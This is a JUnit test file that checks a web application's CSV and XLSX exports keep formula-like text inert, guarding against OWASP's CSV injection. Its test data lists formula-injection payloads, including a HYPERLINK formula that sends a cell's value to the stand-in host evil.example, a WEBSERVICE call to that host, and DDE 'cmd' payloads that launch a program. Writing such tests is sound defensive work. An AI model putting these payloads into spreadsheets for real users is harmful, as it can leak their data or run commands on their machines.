package eu.mpf.web.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that a spreadsheet would take for formulas, as cells of both exports (OWASP, CSV injection). */
@Tag("X14")
@Tag("E31")
class FormulaInjectionTest {
    private static final Table<String> TABLE = Table.of(String.class).column("text", text -> text);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
                "=WEBSERVICE(\"https://evil.example\")",
                "=cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "＝1+1",
                "x\";=1+1;\"",
            })
    void aPayloadIsTextInBothExports(String payload) throws IOException {
        var csv = new ByteArrayOutputStream();
        CsvWriter.write(TABLE, List.of(payload)::forEach, csv);
        try (var rows = CSVFormat.RFC4180.parse(new StringReader(csv.toString(StandardCharsets.UTF_8)))) {
            var cells = rows.getRecords().get(1).toList();
            assertThat(cells).as("no payload makes a second cell").hasSize(1);
            assertThat(cells.getFirst())
                    .doesNotMatch("(?s)^[=+\\-@\\t\\r\\n＝＋－＠].*")
                    .endsWith(payload);
        }
        var xlsx = new ByteArrayOutputStream();
        XlsxWriter.write(TABLE, List.of(payload)::forEach, xlsx);
        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
            var cell = workbook.getFirstSheet().read().get(1).getCell(0);
            assertThat(cell.getType()).isEqualTo(CellType.STRING);
            assertThat(cell.getFormula()).isNull();
        }
    }
}
